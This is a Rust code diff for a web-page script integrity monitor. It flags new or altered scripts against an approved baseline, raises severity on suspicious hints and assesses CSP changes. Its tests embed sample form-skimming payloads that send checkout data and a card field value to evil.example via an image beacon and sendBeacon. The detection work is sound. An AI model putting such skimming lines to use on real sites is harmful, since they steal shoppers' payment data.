@@ -11,6 +11,7 @@
 //! change keeps its id across rescans and can be tracked or acknowledged.
 
 use crate::inventory::sha256_hex;
+use crate::{csp, hints, normalize};
 use crate::model::{
     ApprovedScript, Baseline, Finding, FindingKind, HeaderChange, Inventory, Script, ScriptKind, ScriptRef,
     Severity, SECURITY_HEADERS,
@@ -47,16 +48,20 @@ pub fn compare(
     for a in &baseline.scripts {
         approved.entry(a.id.as_str()).or_default().push(a);
     }
-    let current_ids: BTreeSet<&str> = inv.scripts.iter().map(|s| s.id.as_str()).collect();
+    // Approved identities accounted for by a current script (matched, or altered).
+    let mut present: BTreeSet<&str> = BTreeSet::new();
 
     let mut new_scripts: Vec<&Script> = Vec::new();
     for script in &inv.scripts {
+        if let Some(a) = approved_match(&baseline.scripts, script) {
+            present.insert(a.id.as_str());
+            continue;
+        }
         match approved.get(script.id.as_str()) {
             None => new_scripts.push(script),
             Some(versions) => {
-                if !versions.iter().any(|a| a.sha256 == script.sha256) {
-                    findings.push(altered(page, inv, script, versions[0], script_severity, approved_source));
-                }
+                present.insert(script.id.as_str());
+                findings.push(altered(page, inv, script, versions[0], script_severity, approved_source));
             }
         }
     }
@@ -65,7 +70,7 @@ pub fn compare(
     let removed: Vec<&ApprovedScript> = baseline
         .scripts
         .iter()
-        .filter(|a| !current_ids.contains(a.id.as_str()) && removed_ids.insert(a.id.as_str()))
+        .filter(|a| !present.contains(a.id.as_str()) && removed_ids.insert(a.id.as_str()))
         .collect();
 
     let (pairs, new_scripts, removed) = pair_edited_inline(new_scripts, removed, approved_source);
@@ -73,10 +78,16 @@ pub fn compare(
         findings.push(altered(page, inv, script, old, script_severity, approved_source));
     }
     for script in new_scripts {
+        let analysis = hints::analyze(None, &script.source);
         findings.push(Finding {
             id: finding_id(page, FindingKind::NewScript, &script.id, &script.sha256),
             kind: FindingKind::NewScript,
-            severity: script_severity,
+            // On a page never approved everything is "new": list hints, but do not raise the
+            // whole initial inventory to the next severity.
+            severity: if baseline.is_empty() { script_severity } else { raised(script_severity, &analysis.hints) },
+            hints: analysis.hints,
+            added_hosts: analysis.added_hosts,
+            added_urls: analysis.added_urls,
             title: format!("New {} script {}", script.kind, describe(title_url(&script.url, script.kind), &script.id, &script.frame_url, inv)),
             script: Some(script_ref(script)),
             diff: None,
@@ -162,10 +173,17 @@ fn altered(
         )
     });
     let renamed = if old.id != script.id { format!(", was {}", one_line(&old.id)) } else { String::new() };
+    // Without the approved text nothing is known to be "added", so no hints.
+    let analysis = approved_source(&old.sha256)
+        .map(|old_src| hints::analyze(Some(&old_src), &script.source))
+        .unwrap_or_default();
     Finding {
         id: finding_id(page, FindingKind::AlteredScript, &script.id, &script.sha256),
         kind: FindingKind::AlteredScript,
-        severity,
+        severity: raised(severity, &analysis.hints),
+        hints: analysis.hints,
+        added_hosts: analysis.added_hosts,
+        added_urls: analysis.added_urls,
         title: format!(
             "Altered {} script {}{renamed}",
             script.kind,
@@ -179,6 +197,50 @@ fn altered(
         initiator: script.initiator.clone(),
         ..Default::default()
     }
+}
+
+/// One severity step up when the added code has hints; never down.
+fn raised(severity: Severity, hints: &[String]) -> Severity {
+    if hints.is_empty() {
+        return severity;
+    }
+    match severity {
+        Severity::Info => Severity::Low,
+        Severity::Low => Severity::Medium,
+        Severity::Medium => Severity::High,
+        Severity::High | Severity::Critical => Severity::Critical,
+    }
+}
+
+/// `id` without a collision suffix (`#2`, `#3`, …).
+fn collision_base(id: &str) -> &str {
+    match id.rfind('#') {
+        Some(i) if i + 1 < id.len() && id[i + 1..].bytes().all(|b| b.is_ascii_digit()) => &id[..i],
+        _ => id,
+    }
+}
+
+/// The approved version `script` is, if any: the same identity and SHA-256; or, among scripts
+/// whose identities collided (`x`, `x#2`, … — numbered per load, so they may swap when the page
+/// orders them differently), the same SHA-256; or, for inline code approved with a normalized
+/// hash, the same code with other data literals (see `normalize`).
+fn approved_match<'a>(approved: &'a [ApprovedScript], script: &Script) -> Option<&'a ApprovedScript> {
+    if let Some(a) = approved.iter().find(|a| a.id == script.id && a.sha256 == script.sha256) {
+        return Some(a);
+    }
+    let base = collision_base(&script.id);
+    let group: Vec<&ApprovedScript> =
+        approved.iter().filter(|a| a.kind == script.kind && collision_base(&a.id) == base).collect();
+    if let Some(a) = group.iter().find(|a| a.sha256 == script.sha256) {
+        return Some(a);
+    }
+    if group.iter().all(|a| a.normalized_sha256.is_none()) {
+        return None;
+    }
+    let normalized = normalize::normalize_inline(script.kind, script.url.as_deref(), &script.source)?;
+    // Prefer the script's own identity when several versions share the normalized hash.
+    let same = |a: &&&ApprovedScript| a.normalized_sha256.as_deref() == Some(normalized.sha256.as_str());
+    group.iter().filter(same).find(|a| a.id == script.id).or_else(|| group.iter().find(same)).copied()
 }
 
 /// Kinds whose identity depends on the code itself (anchor), so an edit can change it.
@@ -264,18 +326,24 @@ fn header_changes(page: &str, inv: &Inventory, baseline: &Baseline) -> Vec<Findi
     for name in SECURITY_HEADERS {
         let old = approved.get(name).copied().flatten();
         let new = inv.headers.get(name).map(String::as_str);
-        let (what, severity) = match (old, new) {
+        match (old, new) {
             (None, None) => continue,
-            (Some(_), None) => ("removed", Severity::Medium),
-            (None, Some(_)) => ("added", Severity::Low),
             (Some(a), Some(b)) if normalise_header(a) == normalise_header(b) => continue,
-            (Some(_), Some(_)) => ("changed", Severity::Medium),
+            _ => {}
+        }
+        let verdict = csp::assess(name, old, new);
+        let (what, severity) = (verdict.verb, verdict.severity);
+        let detail = if old.is_some() && new.is_some() && !verdict.notes.is_empty() {
+            format!(": {}", verdict.notes.join("; "))
+        } else {
+            String::new()
         };
         out.push(Finding {
             id: finding_id(page, FindingKind::HeaderChange, name, &new.map(normalise_header).unwrap_or_default()),
             kind: FindingKind::HeaderChange,
             severity,
-            title: format!("{} {what}", display_header(name)),
+            title: one_line(&format!("{} {what}{detail}", display_header(name))),
+            hints: verdict.notes,
             script: None,
             diff: None,
             header: Some(HeaderChange {
@@ -413,6 +481,8 @@ mod tests {
             sri: s.sri.clone(),
             bytes: s.bytes,
             approval: approval(),
+            normalized_sha256: normalize::normalize_inline(s.kind, s.url.as_deref(), &s.source).map(|n| n.sha256),
+            masked: None,
         }
     }
 
@@ -439,6 +509,7 @@ mod tests {
                 .map(|n| ApprovedHeader { name: n.to_string(), value: inv.headers.get(*n).cloned(), approval: approval() })
                 .collect(),
             hosts: inv.hosts.iter().map(|h| ApprovedHost { host: h.clone(), approval: approval() }).collect(),
+            ..Default::default()
         }
     }
 
@@ -661,5 +732,79 @@ mod tests {
         let title = &f.iter().find(|x| x.kind == FindingKind::NewScript).unwrap().title;
         assert!(!title.contains('\n'));
         assert!(title.chars().count() < 240, "{}", title.len());
+    }
+
+    const VOLATILE: &str = "window.checkout = {csrf: 'c2VjcmV0LTE3MDA=', session: 'sess_8f2a9c41b7', ts: 1718000000123, endpoint: 'https://api.shop.example/v1/orders', cart: {items: [{sku: 'HP-1', qty: 1}]}}; Checkout.init(window.checkout);";
+
+    fn volatile_variant(csrf: &str, ts: &str) -> String {
+        VOLATILE.replace("c2VjcmV0LTE3MDA=", csrf).replace("1718000000123", ts).replace("qty: 1", "qty: 4")
+    }
+
+    #[test]
+    fn inline_script_differing_only_in_data_is_the_approved_script() {
+        let old = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, VOLATILE);
+        let base = baseline_of(&inventory(vec![old.clone()]));
+        assert!(base.scripts[0].normalized_sha256.is_some());
+        let now = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &volatile_variant("ZZZZ-999", "1718999999999"));
+        assert!(compare("checkout", &inventory(vec![now]), &base, &sources(&[VOLATILE])).is_empty());
+
+        // ...but not a changed host, an appended statement or a new call.
+        for changed in [
+            volatile_variant("ZZZZ", "1").replace("api.shop.example", "api.shop-example.co"),
+            format!("{}new Image().src = 'https://evil.example/c?d=' + btoa(JSON.stringify(window.checkout));", volatile_variant("Z", "2")),
+            volatile_variant("Z", "3").replace("Checkout.init(window.checkout);", "send(window.checkout); Checkout.init(window.checkout);"),
+        ] {
+            let now = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &changed);
+            let f = compare("checkout", &inventory(vec![now]), &base, &sources(&[VOLATILE]));
+            assert_eq!(f.iter().map(|x| x.kind).collect::<Vec<_>>(), [FindingKind::AlteredScript], "{changed}");
+        }
+    }
+
+    #[test]
+    fn colliding_identities_swapped_by_document_order_are_not_a_change() {
+        let a = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, "one();");
+        let b = script("main|inline|aaaaaaaaaa#2", ScriptKind::Inline, None, "two();");
+        let base = baseline_of(&inventory(vec![a.clone(), b.clone()]));
+        let swapped = vec![
+            Script { id: "main|inline|aaaaaaaaaa".into(), ..b.clone() },
+            Script { id: "main|inline|aaaaaaaaaa#2".into(), ..a.clone() },
+        ];
+        assert!(compare("checkout", &inventory(swapped), &base, &no_sources).is_empty());
+        // One of them gone is still a removal.
+        let one = vec![Script { id: "main|inline|aaaaaaaaaa".into(), ..b }];
+        let f = compare("checkout", &inventory(one), &base, &no_sources);
+        assert_eq!(f.iter().map(|x| (x.kind, x.script.as_ref().unwrap().id.as_str())).collect::<Vec<_>>(), [(FindingKind::RemovedScript, "main|inline|aaaaaaaaaa")]);
+    }
+
+    #[test]
+    fn hints_and_added_hosts_raise_severity_and_are_listed() {
+        let old = app();
+        let base = baseline_of(&inventory(vec![old.clone()]));
+        let new = script(
+            "self:/app.js",
+            ScriptKind::External,
+            Some("https://shop.example/app.js"),
+            "var a=1;init(a);document.forms[0].onsubmit=function(){navigator.sendBeacon('https://evil.example/c',document.forms[0].cc.value)};",
+        );
+        let f = compare("checkout", &inventory(vec![new]), &base, &sources(&[&old.source]));
+        assert_eq!(f[0].severity, Severity::High, "medium raised by hints");
+        assert!(f[0].hints.iter().any(|h| h.contains("sendBeacon")), "{:?}", f[0].hints);
+        assert_eq!(f[0].added_hosts, ["evil.example"]);
+        assert_eq!(f[0].added_urls, ["https://evil.example/c"]);
+    }
+
+    #[test]
+    fn csp_change_names_the_directive_and_direction() {
+        let mut old = inventory(vec![]);
+        old.headers.insert("content-security-policy".into(), "script-src 'self'; object-src 'none'".into());
+        let base = baseline_of(&old);
+        let mut inv = inventory(vec![]);
+        inv.headers.insert("content-security-policy".into(), "script-src 'self' 'unsafe-eval'; object-src 'none'".into());
+        let f = compare("checkout", &inv, &base, &no_sources);
+        assert_eq!(f[0].severity, Severity::Medium);
+        assert_eq!(f[0].title, "Content-Security-Policy weakened: script-src: added 'unsafe-eval' (weaker: allows injected code)");
+        inv.headers.insert("content-security-policy".into(), "script-src 'self'; object-src 'none'; base-uri 'none'".into());
+        let f = compare("checkout", &inv, &base, &no_sources);
+        assert_eq!((f[0].severity, f[0].title.as_str()), (Severity::Low, "Content-Security-Policy tightened: base-uri: added (stricter)"));
     }
 }
